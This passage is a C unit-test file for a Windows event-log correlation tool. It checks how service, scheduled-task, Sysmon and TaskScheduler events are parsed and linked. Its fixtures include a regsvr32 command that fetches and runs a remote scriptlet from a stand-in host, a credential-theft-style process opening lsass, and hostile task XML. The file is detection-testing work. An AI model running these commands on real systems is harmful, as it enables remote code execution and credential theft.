/*
 * check_sources.c -- unit tests of the execution sources of the event
 * model: PowerShell 4104 script blocks joined from their parts (in
 * order, out of order, missing, repeated, cut), scheduled-task XML
 * (well-formed and hostile), services (7045 / 4697), Sysmon 22 / 11,
 * WMI subscriptions (Sysmon 19 / 20 / 21, WMI-Activity 5861), remote
 * threads and process access (Sysmon 8 / 10) tied to their source, driver
 * loads (6, tied to nothing), registry events (12-14), alternate streams
 * (15) and named pipes (17 / 18) tied to their process, the report's one
 * line of each, TaskScheduler/Operational task events (106, 129, 140,
 * 141, 200, 201) joined into runs tied to the process launched, and which
 * of them make a host examinable.
 */
#include <check.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "correlate.h"
#include "ev_arena.h"
#include "ev_util.h"
#include "event.h"
#include "report/report_int.h"

static struct ev_arena arena;

static void
setup(void)
{
	ev_arena_init(&arena);
}

static void
teardown(void)
{
	ev_arena_release(&arena);
}

static void
record(struct ev_record *r, const char *provider, const char *channel,
    uint32_t id, const struct ev_pair *data, uint32_t n)
{
	memset(r, 0, sizeof(*r));
	r->provider = provider;
	r->channel = channel;
	r->event_id = id;
	r->kind = ev_classify(provider, strlen(provider), id);
	r->computer = "WKS03.corp.local";
	r->record_id = 7;
	r->time = 132000000000000000ULL;
	r->data = data;
	r->ndata = n;
}

static struct ev_event *
normalised(const char *provider, const char *channel, uint32_t id,
    const struct ev_pair *data, uint32_t n)
{
	struct ev_record r;
	struct ev_event *ev = ev_arena_alloc(&arena, sizeof(*ev));

	ck_assert_ptr_nonnull(ev);
	record(&r, provider, channel, id, data, n);
	ck_assert_int_eq(ev_normalise(&r, &arena, ev), 0);
	return ev;
}

START_TEST(test_classify_sources)
{
	static const struct { const char *prov; uint32_t id; int kind; } c[] = {
		{ EV_PROVIDER_POWERSHELL, 4104, EV_KIND_SCRIPT },
		{ EV_PROVIDER_SCM, 7045, EV_KIND_SERVICE },
		{ EV_PROVIDER_SECURITY, 4697, EV_KIND_SERVICE },
		{ EV_PROVIDER_SECURITY, 4698, EV_KIND_TASK },
		{ EV_PROVIDER_SECURITY, 4702, EV_KIND_TASK },
		{ EV_PROVIDER_SYSMON, 22, EV_KIND_DNS },
		{ EV_PROVIDER_SYSMON, 11, EV_KIND_FILE },
		{ EV_PROVIDER_SYSMON, 19, EV_KIND_WMI },
		{ EV_PROVIDER_SYSMON, 20, EV_KIND_WMI },
		{ EV_PROVIDER_SYSMON, 21, EV_KIND_WMI },
		{ EV_PROVIDER_WMI, 5861, EV_KIND_WMI },
		{ EV_PROVIDER_SYSMON, 8, EV_KIND_REMOTE_THREAD },
		{ EV_PROVIDER_SYSMON, 10, EV_KIND_PROCESS_ACCESS },
		{ EV_PROVIDER_SECURITY, 10, EV_KIND_NONE },
		{ EV_PROVIDER_SYSMON, 6, EV_KIND_DRIVER_LOAD },
		{ EV_PROVIDER_SYSMON, 12, EV_KIND_REGISTRY },
		{ EV_PROVIDER_SYSMON, 13, EV_KIND_REGISTRY },
		{ EV_PROVIDER_SYSMON, 14, EV_KIND_REGISTRY },
		{ EV_PROVIDER_SYSMON, 15, EV_KIND_STREAM_HASH },
		{ EV_PROVIDER_SYSMON, 17, EV_KIND_PIPE },
		{ EV_PROVIDER_SYSMON, 18, EV_KIND_PIPE },
		{ EV_PROVIDER_SYSMON, 16, EV_KIND_NONE },
		{ EV_PROVIDER_SECURITY, 13, EV_KIND_NONE },
		{ EV_PROVIDER_SECURITY, 6, EV_KIND_NONE },
		/* the provider is checked with the id */
		{ EV_PROVIDER_SECURITY, 20, EV_KIND_NONE },
		{ EV_PROVIDER_SYSMON, 5861, EV_KIND_NONE },
		{ EV_PROVIDER_WMI, 5860, EV_KIND_NONE },
		{ EV_PROVIDER_SYSMON, 4104, EV_KIND_NONE },
		{ EV_PROVIDER_SECURITY, 7045, EV_KIND_NONE },
		{ "Fake-Provider", 4698, EV_KIND_NONE },
		{ EV_PROVIDER_SECURITY, 11, EV_KIND_NONE },
		{ EV_PROVIDER_TASKSCHED, 106, EV_KIND_TASK },
		{ EV_PROVIDER_TASKSCHED, 129, EV_KIND_TASK },
		{ EV_PROVIDER_TASKSCHED, 140, EV_KIND_TASK },
		{ EV_PROVIDER_TASKSCHED, 141, EV_KIND_TASK },
		{ EV_PROVIDER_TASKSCHED, 200, EV_KIND_TASK },
		{ EV_PROVIDER_TASKSCHED, 201, EV_KIND_TASK },
		{ EV_PROVIDER_TASKSCHED, 102, EV_KIND_NONE },
		{ EV_PROVIDER_TASKSCHED, 4698, EV_KIND_NONE },
		{ EV_PROVIDER_SECURITY, 129, EV_KIND_NONE },
		{ EV_PROVIDER_SYSMON, 200, EV_KIND_NONE },
	};

	for (size_t i = 0; i < NELEM(c); i++)
		ck_assert_int_eq(ev_classify(c[i].prov, strlen(c[i].prov),
		    c[i].id), c[i].kind);
	ck_assert_str_eq(ev_kind_name(EV_KIND_SCRIPT), "script_block");
	ck_assert_str_eq(ev_kind_name(EV_KIND_DNS), "dns_query");
	ck_assert_str_eq(ev_kind_name(EV_KIND_FILE), "file_create");
	ck_assert_str_eq(ev_kind_name(EV_KIND_WMI), "wmi");
	ck_assert_str_eq(ev_kind_name(EV_KIND_REMOTE_THREAD),
	    "create_remote_thread");
	ck_assert_str_eq(ev_kind_name(EV_KIND_PROCESS_ACCESS),
	    "process_access");
	ck_assert_str_eq(ev_kind_name(EV_KIND_DRIVER_LOAD), "driver_load");
	ck_assert_str_eq(ev_kind_name(EV_KIND_REGISTRY), "registry_event");
	ck_assert_str_eq(ev_kind_name(EV_KIND_STREAM_HASH),
	    "create_stream_hash");
	ck_assert_str_eq(ev_kind_name(EV_KIND_PIPE), "pipe_created");
	for (uint32_t id = 0; id < 30; id++)
		if (ev_classify(EV_PROVIDER_SYSMON, strlen(EV_PROVIDER_SYSMON),
		    id) != EV_KIND_NONE)
			ck_assert(ev_wanted_id(id));
}
END_TEST

/* ---- services ---- */

START_TEST(test_service_7045)
{
	static const struct ev_pair d[] = {
		{ "ServiceName", "updater" },
		{ "ImagePath", "C:\\Program Files\\Up Date\\up.exe -k run" },
		{ "ServiceType", "user mode service" },
		{ "StartType", "auto start" },
		{ "AccountName", "LocalSystem" },
	};
	struct ev_event *ev = normalised(EV_PROVIDER_SCM, "System", 7045, d,
	    NELEM(d));

	ck_assert_int_eq(ev->kind, EV_KIND_SERVICE);
	ck_assert_str_eq(ev_col(ev, EV_COL_SERVICE_NAME), "updater");
	ck_assert_str_eq(ev_col(ev, EV_COL_COMMAND_LINE),
	    "C:\\Program Files\\Up Date\\up.exe -k run");
	ck_assert_str_eq(ev_col(ev, EV_COL_IMAGE),
	    "C:\\Program Files\\Up Date\\up.exe");
	ck_assert_str_eq(ev_col(ev, EV_COL_START_TYPE), "auto start");
	ck_assert_str_eq(ev_col(ev, EV_COL_USER), "LocalSystem");
	ck_assert(ev_examinable(ev));
}
END_TEST

START_TEST(test_service_4697)
{
	static const struct ev_pair d[] = {
		{ "SubjectUserSid", "S-1-5-21-1-2-3-1001" },
		{ "SubjectUserName", "alice" },
		{ "SubjectDomainName", "CORP" },
		{ "SubjectLogonId", "0x5c3f1" },
		{ "ServiceName", "x" },
		{ "ServiceFileName",
		    "\"C:\\Windows\\System32\\rundll32.exe\" a.dll,Run" },
		{ "ServiceType", "0x10" },
		{ "ServiceStartType", "3" },
		{ "ServiceAccount", "LocalSystem" },
	};
	static const struct ev_pair comspec[] = {
		{ "ServiceName", "z" },
		{ "ImagePath", "%COMSPEC% /c C:\\Temp\\svc.exe" },
	};
	static const struct ev_pair odd[] = {
		{ "ServiceName", "y" },
		{ "ServiceFileName", "" },
		{ "ServiceStartType", "99" },
	};
	struct ev_event *ev = normalised(EV_PROVIDER_SECURITY, "Security",
	    4697, d, NELEM(d));

	ck_assert_str_eq(ev_col(ev, EV_COL_IMAGE),
	    "C:\\Windows\\System32\\rundll32.exe");
	ck_assert_str_eq(ev_col(ev, EV_COL_START_TYPE), "demand start");
	ck_assert_str_eq(ev_col(ev, EV_COL_USER), "LocalSystem");
	ck_assert_str_eq(ev_col(ev, EV_COL_LOGON_ID), "0x5c3f1");
	/* the .exe of an argument is not the image */
	ev = normalised(EV_PROVIDER_SCM, "System", 7045, comspec,
	    NELEM(comspec));
	ck_assert_str_eq(ev_col(ev, EV_COL_IMAGE), "%COMSPEC%");
	/* no image path: nothing runs, not examinable; odd numbers kept */
	ev = normalised(EV_PROVIDER_SECURITY, "Security", 4697, odd,
	    NELEM(odd));
	ck_assert_ptr_null(ev_col(ev, EV_COL_COMMAND_LINE));
	ck_assert_ptr_null(ev_col(ev, EV_COL_IMAGE));
	ck_assert_str_eq(ev_col(ev, EV_COL_START_TYPE), "99");
	ck_assert(!ev_examinable(ev));
}
END_TEST

/* ---- scheduled tasks ---- */

static const char task_xml[] =
    "<?xml version=\"1.0\" encoding=\"UTF-16\"?>\r\n"
    "<Task version=\"1.2\" xmlns=\"http://schemas.microsoft.com/windows/"
    "2004/02/mit/task\">\r\n"
    "  <Triggers><LogonTrigger><Enabled>true</Enabled></LogonTrigger>"
    "</Triggers>\r\n"
    "  <Actions Context=\"Author\">\r\n"
    "    <Exec>\r\n"
    "      <Command>C:\\Windows\\System32\\regsvr32.exe</Command>\r\n"
    "      <Arguments>/s /n /u /i:http://x.test/a.sct scrobj.dll"
    "</Arguments>\r\n"
    "    </Exec>\r\n"
    "    <ComHandler><ClassId>{0}</ClassId></ComHandler>\r\n"
    "    <Exec><Command>cmd.exe</Command></Exec>\r\n"
    "  </Actions>\r\n"
    "</Task>";

START_TEST(test_task_xml)
{
	const char *cmd[4], *args[4];

	ck_assert_int_eq(ev_task_actions(task_xml, &arena, cmd, args, 4), 2);
	ck_assert_str_eq(cmd[0], "C:\\Windows\\System32\\regsvr32.exe");
	ck_assert_str_eq(args[0], "/s /n /u /i:http://x.test/a.sct scrobj.dll");
	ck_assert_str_eq(cmd[1], "cmd.exe");
	ck_assert_str_eq(args[1], "");
	/* max bounds what is kept, not what is counted */
	ck_assert_int_eq(ev_task_actions(task_xml, &arena, cmd, args, 1), 2);
	ck_assert_str_eq(cmd[0], "C:\\Windows\\System32\\regsvr32.exe");
}
END_TEST

static const struct {
	const char	*xml;
	int		 n;
	const char	*cmd, *args;	/* of the first action */
} hostile[] = {
	{ "", 0, NULL, NULL },
	{ "<", 0, NULL, NULL },
	{ "<Exec", 0, NULL, NULL },
	{ "<Exec><Command>a.exe", 0, NULL, NULL },	/* never closed */
	{ "<Exec><Command>a.exe</Command>", 0, NULL, NULL },
	{ "<Exec><Command>a.exe</Command></Exec>", 1, "a.exe", "" },
	/* prefixes, entities, character references, CDATA, comments */
	{ "<t:Exec><t:Command>&quot;C:\\a b\\x.exe&quot;</t:Command>"
	  "<t:Arguments>-c &amp;&#x41;&#66;&lt;&gt;&apos;</t:Arguments>"
	  "</t:Exec>", 1, "\"C:\\a b\\x.exe\"", "-c &AB<>'" },
	{ "<Exec><Command>a<!-- </Exec> --><![CDATA[<b>&amp;]]>c</Command>"
	  "</Exec>", 1, "a<b>&amp;c", "" },
	/* a bad or huge reference stays literal; NUL becomes U+FFFD */
	{ "<Exec><Command>&bogus; &#xZZ; &#99999999999; &#0;</Command>"
	  "</Exec>", 1, "&bogus; &#xZZ; &#99999999999; \xef\xbf\xbd", "" },
	/* a DOCTYPE with an entity is skipped, the entity not expanded */
	{ "<!DOCTYPE t [<!ENTITY e \"evil.exe\"> <!ELEMENT x (y)>]>"
	  "<Exec><Command>&e;</Command></Exec>", 1, "&e;", "" },
	/* quotes hide '>' in attributes; empty elements */
	{ "<Exec a='>' b=\"/>\"><Command x=\">\">q.exe</Command><Arguments/>"
	  "</Exec><Exec/><Command>outside.exe</Command>", 1, "q.exe", "" },
	/* unterminated comment / CDATA / declaration run to the end */
	{ "<Exec><Command>a.exe</Command></Exec><!-- <Exec>", 1, "a.exe", "" },
	{ "<![CDATA[<Exec><Command>no.exe</Command></Exec>", 0, NULL, NULL },
	{ "<!DOCTYPE [[[[", 0, NULL, NULL },
	{ "<?xml <Exec><Command>no.exe</Command></Exec>", 0, NULL, NULL },
	/* case matters in XML */
	{ "<exec><command>no.exe</command></exec>", 0, NULL, NULL },
	/* nested Exec: the inner one starts over */
	{ "<Exec><Command>a</Command><Exec><Command>b</Command></Exec>"
	  "</Exec>", 1, "b", "" },
};

START_TEST(test_task_xml_hostile)
{
	const char *cmd[EV_TASK_ACTIONS_MAX], *args[EV_TASK_ACTIONS_MAX];
	int n = ev_task_actions(hostile[_i].xml, &arena, cmd, args,
	    EV_TASK_ACTIONS_MAX);

	ck_assert_msg(n == hostile[_i].n, "case %d: %d actions", _i, n);
	if (hostile[_i].cmd != NULL) {
		ck_assert_str_eq(cmd[0], hostile[_i].cmd);
		ck_assert_str_eq(args[0], hostile[_i].args);
	}
}
END_TEST

/* Many actions and a document past the size bound. */
START_TEST(test_task_xml_bounds)
{
	size_t cap = EV_TASK_XML_MAX + 4096, len = 0;
	char *big = malloc(cap);
	const char *cmd[EV_TASK_ACTIONS_MAX], *args[EV_TASK_ACTIONS_MAX];
	static const char act[] = "<Exec><Command>a.exe</Command></Exec>";
	int want = 0;

	ck_assert_ptr_nonnull(big);
	while (len + sizeof(act) < cap) {
		memcpy(big + len, act, sizeof(act) - 1);
		len += sizeof(act) - 1;
		if (len <= EV_TASK_XML_MAX)
			want++;
	}
	big[len] = '\0';
	ck_assert_int_eq(ev_task_actions(big, &arena, cmd, args,
	    EV_TASK_ACTIONS_MAX), want);
	ck_assert_str_eq(cmd[EV_TASK_ACTIONS_MAX - 1], "a.exe");
	free(big);
}
END_TEST

START_TEST(test_task_4698)
{
	const struct ev_pair d[] = {
		{ "SubjectUserSid", "S-1-5-21-1-2-3-1001" },
		{ "SubjectUserName", "alice" },
		{ "SubjectDomainName", "CORP" },
		{ "SubjectLogonId", "0x5c3f1" },
		{ "TaskName", "\\Updater" },
		{ "TaskContent", task_xml },
		{ "ClientProcessId", "0x1f0" },
	};
	struct ev_event *ev = normalised(EV_PROVIDER_SECURITY, "Security",
	    4698, d, NELEM(d));

	ck_assert_int_eq(ev->kind, EV_KIND_TASK);
	ck_assert_str_eq(ev_col(ev, EV_COL_TASK_NAME), "\\Updater");
	ck_assert_str_eq(ev_col(ev, EV_COL_IMAGE),
	    "C:\\Windows\\System32\\regsvr32.exe");
	ck_assert_str_eq(ev_col(ev, EV_COL_COMMAND_LINE),
	    "C:\\Windows\\System32\\regsvr32.exe /s /n /u "
	    "/i:http://x.test/a.sct scrobj.dll\ncmd.exe");
	ck_assert_str_eq(ev_col(ev, EV_COL_USER), "CORP\\alice");
	ck_assert_str_eq(ev_col(ev, EV_COL_PID), "496");
	ck_assert(ev_examinable(ev));
}
END_TEST

/* ---- TaskScheduler/Operational ---- */

#define TS_CHAN	"Microsoft-Windows-TaskScheduler/Operational"
#define REGSVR	"C:\\Windows\\System32\\regsvr32.exe"

static struct ev_event *
ts_at(const char *host, uint64_t t, uint32_t id, const struct ev_pair *d,
    uint32_t n)
{
	struct ev_event *ev = normalised(id == 1 ? EV_PROVIDER_SYSMON :
	    EV_PROVIDER_TASKSCHED, TS_CHAN, id, d, n);

	ck_assert_int_eq(ev_col_set(ev, EV_COL_COMPUTER, host, &arena), 0);
	ev->time = t;
	return ev;
}

/* The fields as the real log names them (Windows 10). */
START_TEST(test_tasksched_norm)
{
	static const struct ev_pair reg[] = { { "TaskName", "\\Upd" },
	    { "UserContext", "S-1-5-18" } };
	static const struct ev_pair upd[] = { { "TaskName", "\\Upd" },
	    { "UserName", "CORP\\bob" } };
	static const struct ev_pair launch[] = { { "TaskName", "\\Upd" },
	    { "Path", REGSVR }, { "ProcessID", "4242" },
	    { "Priority", "16384" } };
	static const struct ev_pair start[] = { { "TaskName", "\\Upd" },
	    { "ActionName", REGSVR }, { "TaskInstanceId", "{I1}" },
	    { "EnginePID", "4242" } };
	static const struct ev_pair done[] = { { "TaskName", "\\Upd" },
	    { "TaskInstanceId", "{I1}" }, { "ActionName", REGSVR },
	    { "ResultCode", "2147942401" }, { "EnginePID", "4242" } };
	static const struct ev_pair com[] = { { "TaskName", "\\Upd" },
	    { "ActionName", "" }, { "TaskInstanceId", "{I2}" },
	    { "EnginePID", "0x10" } };
	struct ev_event *ev = ts_at("A", 1, 106, reg, NELEM(reg));

	ck_assert_int_eq(ev->kind, EV_KIND_TASK);
	ck_assert_str_eq(ev_col(ev, EV_COL_TASK_NAME), "\\Upd");
	ck_assert_str_eq(ev_col(ev, EV_COL_USER), "NT AUTHORITY\\SYSTEM");
	ck_assert_ptr_null(ev_col(ev, EV_COL_COMMAND_LINE));
	ck_assert(!ev_examinable(ev));
	ck_assert(ev_is_tasksched(ev));
	for (uint32_t id = 140; id <= 141; id++) {
		ev = ts_at("A", 1, id, upd, NELEM(upd));
		ck_assert_str_eq(ev_col(ev, EV_COL_USER), "CORP\\bob");
		ck_assert(!ev_examinable(ev));
	}
	ev = ts_at("A", 1, 129, launch, NELEM(launch));
	ck_assert_str_eq(ev_col(ev, EV_COL_IMAGE), REGSVR);
	ck_assert_str_eq(ev_col(ev, EV_COL_COMMAND_LINE), REGSVR);
	ck_assert_str_eq(ev_col(ev, EV_COL_TARGET_PID), "4242");
	ck_assert_ptr_null(ev_col(ev, EV_COL_PID));
	ck_assert(ev_examinable(ev));
	ck_assert_str_eq(ev_data(ev, "Priority"), "16384");
	ev = ts_at("A", 1, 200, start, NELEM(start));
	ck_assert_str_eq(ev_col(ev, EV_COL_IMAGE), REGSVR);
	ck_assert_str_eq(ev_col(ev, EV_COL_COMMAND_LINE), REGSVR);
	ck_assert_str_eq(ev_col(ev, EV_COL_TASK_INSTANCE_ID), "{I1}");
	ck_assert_str_eq(ev_col(ev, EV_COL_TARGET_PID), "4242");
	ck_assert(ev_examinable(ev));
	ev = ts_at("A", 1, 201, done, NELEM(done));
	ck_assert_str_eq(ev_col(ev, EV_COL_IMAGE), REGSVR);
	ck_assert_ptr_null(ev_col(ev, EV_COL_COMMAND_LINE));
	ck_assert_str_eq(ev_col(ev, EV_COL_RESULT_CODE), "2147942401");
	ck_assert_str_eq(ev_col(ev, EV_COL_TASK_INSTANCE_ID), "{I1}");
	ck_assert(!ev_examinable(ev));
	/* a COM handler logs no program: nothing shown ran */
	ev = ts_at("A", 1, 200, com, NELEM(com));
	ck_assert_ptr_null(ev_col(ev, EV_COL_IMAGE));
	ck_assert_ptr_null(ev_col(ev, EV_COL_COMMAND_LINE));
	ck_assert_str_eq(ev_col(ev, EV_COL_TARGET_PID), "16");
	ck_assert(!ev_examinable(ev));
	/* a Security 4698 is no TaskScheduler event */
	ck_assert(!ev_is_tasksched(normalised(EV_PROVIDER_SECURITY, "Security",
	    4698, upd, NELEM(upd))));
}
END_TEST

static struct ev_event *
ts_ev(const char *host, uint64_t t, uint32_t id, const char *name,
    const char *img, const char *pid, const char *inst)
{
	struct ev_pair *d = ev_arena_alloc(&arena, 5 * sizeof(*d));
	uint32_t n = 0;

	ck_assert_ptr_nonnull(d);
	d[n++] = (struct ev_pair){ "TaskName", name };
	if (id == 129) {
		d[n++] = (struct ev_pair){ "Path", img };
		d[n++] = (struct ev_pair){ "ProcessID", pid };
	} else if (id == 200 || id == 201) {
		d[n++] = (struct ev_pair){ "ActionName", img };
		d[n++] = (struct ev_pair){ "TaskInstanceId", inst };
		d[n++] = (struct ev_pair){ "EnginePID", pid };
		if (id == 201)
			d[n++] = (struct ev_pair){ "ResultCode", "0" };
	} else
		d[n++] = (struct ev_pair){ "UserContext", "CORP\\bob" };
	return ts_at(host, t, id, d, n);
}

#define TS_SEC	10000000ULL	/* FILETIME ticks */

static struct ev_event *
ts_proc(const char *host, uint64_t t, const char *pid, const char *img,
    const char *cmd)
{
	struct ev_pair *d = ev_arena_alloc(&arena, 5 * sizeof(*d));

	ck_assert_ptr_nonnull(d);
	d[0] = (struct ev_pair){ "ProcessGuid", pid };	/* unique enough */
	d[1] = (struct ev_pair){ "ProcessId", pid };
	d[2] = (struct ev_pair){ "Image", img };
	d[3] = (struct ev_pair){ "CommandLine", cmd };
	d[4] = (struct ev_pair){ "ParentImage",
	    "C:\\Windows\\System32\\svchost.exe" };
	return ts_at(host, t, 1, d, 5);
}

#define CMD_EXE_TS	"C:\\Windows\\System32\\cmd.exe"

/* A run joined, tied to its process without a 4698; one link with it. */
START_TEST(test_tasksched_correlate)
{
	static const struct ev_pair sec[] = { { "TaskName", "\\T2" },
	    { "TaskContent", "<Task><Actions><Exec><Command>" REGSVR
	    "</Command><Arguments>/s /i:http://x/2.sct scrobj.dll</Arguments>"
	    "</Exec></Actions></Task>" } };
	struct ev_event *v[16];
	const struct ev_event *ran[4];
	struct corr_task t;
	size_t n = 0;
	struct corr *c;

	v[n++] = ts_ev("A", 10 * TS_SEC, 106, "\\Upd", NULL, NULL, NULL);
	v[n++] = ts_ev("A", 100 * TS_SEC, 129, "\\Upd", "regsvr32.exe",
	    "4242", NULL);
	v[n++] = ts_ev("A", 100 * TS_SEC + 1, 200, "\\upd", REGSVR, "4242",
	    "{I1}");
	v[n++] = ts_proc("A", 101 * TS_SEC, "4242", REGSVR, REGSVR
	    " /s /i:http://x/1.sct scrobj.dll");
	/* another host's run of the same pid and name */
	v[n++] = ts_ev("B", 101 * TS_SEC, 129, "\\Upd", REGSVR, "4242",
	    NULL);
	v[n++] = ts_ev("A", 200 * TS_SEC, 201, "\\Upd", REGSVR, "4242",
	    "{i1}");
	/* a 4698 and a run of its task: the process is the 4698's */
	v[n++] = normalised(EV_PROVIDER_SECURITY, "Security", 4698, sec,
	    NELEM(sec));
	v[n++] = ts_ev("A", 300 * TS_SEC, 129, "\\T2", REGSVR, "5000", NULL);
	v[n++] = ts_proc("A", 301 * TS_SEC, "5000", REGSVR, REGSVR
	    " /s /i:http://x/2.sct scrobj.dll");
	/* the pid, but past the window; the pid, but another image */
	v[n++] = ts_ev("A", 400 * TS_SEC, 129, "\\L", REGSVR, "6000", NULL);
	v[n++] = ts_proc("A", 406 * TS_SEC, "6000", REGSVR, REGSVR);
	v[n++] = ts_ev("A", 500 * TS_SEC, 129, "\\M", REGSVR, "7000", NULL);
	v[n++] = ts_proc("A", 500 * TS_SEC, "7000", CMD_EXE_TS, "cmd.exe");
	/* no 129: its 200 by EnginePID */
	v[n++] = ts_ev("C", 600 * TS_SEC, 200, "\\N", "MyHandler", "77",
	    "{I3}");
	v[n++] = ts_proc("C", 600 * TS_SEC, "77",
	    "C:\\Windows\\System32\\taskhostw.exe", "taskhostw.exe");
	ck_assert_int_eq(ev_col_set(v[6], EV_COL_COMPUTER, "A", &arena), 0);
	v[6]->time = 250 * TS_SEC;
	for (size_t i = 0; i < n; i++)
		v[i]->seq = (uint32_t)i;
	ck_assert_int_eq(corr_build(v, n, &c, NULL), 0);
	ck_assert_ptr_eq(corr_origin(c, v[3]), v[1]);
	ck_assert_uint_eq(corr_started(c, v[1], ran, 4), 1);
	ck_assert_ptr_eq(ran[0], v[3]);
	ck_assert_uint_eq(corr_started(c, v[4], ran, 4), 0);
	for (int i = 0; i < 4; i++) {
		struct ev_event *e = v[i == 0 ? 3 : i == 1 ? 1 : i == 2 ? 2 : 5];

		ck_assert(corr_task(c, e, &t));
		ck_assert_ptr_eq(t.registered, v[0]);
		ck_assert_ptr_eq(t.launched, v[1]);
		ck_assert_ptr_eq(t.started, v[2]);
		ck_assert_ptr_eq(t.completed, v[5]);
	}
	ck_assert(corr_task(c, v[4], &t));
	ck_assert_ptr_null(t.started);
	ck_assert_ptr_null(t.registered);
	ck_assert(!corr_task(c, v[0], &t));
	ck_assert(!corr_task(c, v[6], &t));
	/* both: one link, to the 4698; the run still found by process */
	ck_assert_ptr_eq(corr_origin(c, v[8]), v[6]);
	ck_assert_uint_eq(corr_started(c, v[7], ran, 4), 0);
	ck_assert_uint_eq(corr_started(c, v[6], ran, 4), 1);
	ck_assert(corr_task(c, v[8], &t));
	ck_assert_ptr_eq(t.launched, v[7]);
	ck_assert_ptr_eq(t.registered, v[6]);
	ck_assert_ptr_null(corr_origin(c, v[10]));
	ck_assert(!corr_task(c, v[10], &t));
	ck_assert_ptr_null(corr_origin(c, v[12]));
	ck_assert_ptr_eq(corr_origin(c, v[14]), v[13]);
	corr_free(c);
}
END_TEST

/* ---- Sysmon 22 / 11 ---- */

START_TEST(test_sysmon_dns_file)
{
	static const struct ev_pair dns[] = {
		{ "ProcessGuid", "{11111111-2222-3333-4444-555555555555}" },
		{ "ProcessId", "4242" },
		{ "QueryName", "x.test" },
		{ "QueryStatus", "0" },
		{ "QueryResults", "::ffff:192.0.2.7;" },
		{ "Image", "C:\\Windows\\System32\\certutil.exe" },
	};
	static const struct ev_pair file[] = {
		{ "ProcessGuid", "{11111111-2222-3333-4444-555555555555}" },
		{ "ProcessId", "4242" },
		{ "Image", "C:\\Windows\\System32\\certutil.exe" },
		{ "TargetFilename", "C:\\Users\\alice\\AppData\\Local\\Temp\\a.exe" },
	};
	struct ev_event *ev = normalised(EV_PROVIDER_SYSMON,
	    "Microsoft-Windows-Sysmon/Operational", 22, dns, NELEM(dns));

	ck_assert_int_eq(ev->kind, EV_KIND_DNS);
	ck_assert_str_eq(ev_col(ev, EV_COL_QUERY_NAME), "x.test");
	ck_assert_str_eq(ev_col(ev, EV_COL_QUERY_RESULTS), "::ffff:192.0.2.7;");
	ck_assert_str_eq(ev_col(ev, EV_COL_PID), "4242");
	ck_assert_str_eq(ev_col(ev, EV_COL_IMAGE),
	    "C:\\Windows\\System32\\certutil.exe");
	ck_assert(!ev_examinable(ev));
	ev = normalised(EV_PROVIDER_SYSMON,
	    "Microsoft-Windows-Sysmon/Operational", 11, file, NELEM(file));
	ck_assert_int_eq(ev->kind, EV_KIND_FILE);
	ck_assert_str_eq(ev_col(ev, EV_COL_TARGET_FILENAME),
	    "C:\\Users\\alice\\AppData\\Local\\Temp\\a.exe");
	ck_assert_str_eq(ev_col(ev, EV_COL_PROCESS_GUID),
	    "{11111111-2222-3333-4444-555555555555}");
}
END_TEST

/* ---- Sysmon 8, 10: a source process acting on a target ---- */

#define SYSMON_CHAN8	"Microsoft-Windows-Sysmon/Operational"
#define LSASS		"C:\\Windows\\system32\\lsass.exe"
#define MIMI		"C:\\Users\\bob\\m.exe"

static struct ev_event *
access_at(const char *host, uint64_t t, uint32_t id, const struct ev_pair *d,
    uint32_t n)
{
	struct ev_event *ev = normalised(EV_PROVIDER_SYSMON, SYSMON_CHAN8, id,
	    d, n);

	ck_assert_int_eq(ev_col_set(ev, EV_COL_COMPUTER, host, &arena), 0);
	ev->time = t;
	return ev;
}

static struct ev_event *
access_proc(const char *host, uint64_t t, const char *guid, const char *pid,
    const char *img)
{
	struct ev_pair *d = ev_arena_alloc(&arena, 4 * sizeof(*d));

	ck_assert_ptr_nonnull(d);
	d[0] = (struct ev_pair){ "ProcessGuid", guid };
	d[1] = (struct ev_pair){ "ProcessId", pid };
	d[2] = (struct ev_pair){ "Image", img };
	d[3] = (struct ev_pair){ "CommandLine", img };
	return access_at(host, t, 1, d, 4);
}

START_TEST(test_sysmon_access)
{
	static const struct ev_pair ct[] = {
		{ "SourceProcessGuid", "{AAAAAAAA-0000-0000-0000-0001}" },
		{ "SourceProcessId", "0x10e4" },
		{ "SourceImage", MIMI },
		{ "TargetProcessGuid", "{AAAAAAAA-0000-0000-0000-0002}" },
		{ "TargetProcessId", "640" },
		{ "TargetImage", LSASS },
		{ "NewThreadId", "77" },
		{ "StartAddress", "0x00007FF6A1B20000" },
		{ "StartModule", "-" },
		{ "StartFunction", "" },
		{ "SourceUser", "CORP\\bob" },
	};
	static const struct ev_pair pa[] = {
		{ "SourceProcessGUID", "{AAAAAAAA-0000-0000-0000-0001}" },
		{ "SourceProcessId", "4324" },
		{ "SourceThreadId", "12" },
		{ "SourceImage", MIMI },
		{ "TargetProcessGUID", "{AAAAAAAA-0000-0000-0000-0002}" },
		{ "TargetProcessId", "640" },
		{ "TargetImage", LSASS },
		{ "GrantedAccess", "0x1010" },
		{ "CallTrace", "C:\\Windows\\SYSTEM32\\ntdll.dll+9d1e4" },
	};
	struct ev_event *ev = access_at("A", 1, 8, ct, NELEM(ct));

	ck_assert_int_eq(ev->kind, EV_KIND_REMOTE_THREAD);
	ck_assert_str_eq(ev_col(ev, EV_COL_PROCESS_GUID),
	    "{AAAAAAAA-0000-0000-0000-0001}");
	ck_assert_str_eq(ev_col(ev, EV_COL_PID), "4324");
	ck_assert_str_eq(ev_col(ev, EV_COL_IMAGE), MIMI);
	ck_assert_str_eq(ev_col(ev, EV_COL_USER), "CORP\\bob");
	ck_assert_str_eq(ev_col(ev, EV_COL_TARGET_PROCESS_GUID),
	    "{AAAAAAAA-0000-0000-0000-0002}");
	ck_assert_str_eq(ev_col(ev, EV_COL_TARGET_PID), "640");
	ck_assert_str_eq(ev_col(ev, EV_COL_TARGET_IMAGE), LSASS);
	ck_assert_str_eq(ev_col(ev, EV_COL_START_ADDRESS),
	    "0x00007FF6A1B20000");
	ck_assert_str_eq(ev_col(ev, EV_COL_START_MODULE), "-");
	ck_assert_ptr_null(ev_col(ev, EV_COL_GRANTED_ACCESS));
	ck_assert_ptr_null(ev_col(ev, EV_COL_COMMAND_LINE));
	ck_assert(!ev_examinable(ev));
	/* the original fields stay in data, as logged, for the rules */
	ck_assert_str_eq(ev_data(ev, "SourceProcessId"), "0x10e4");
	ck_assert_str_eq(ev_data(ev, "NewThreadId"), "77");

	ev = access_at("A", 1, 10, pa, NELEM(pa));
	ck_assert_int_eq(ev->kind, EV_KIND_PROCESS_ACCESS);
	ck_assert_str_eq(ev_col(ev, EV_COL_PROCESS_GUID),
	    "{AAAAAAAA-0000-0000-0000-0001}");
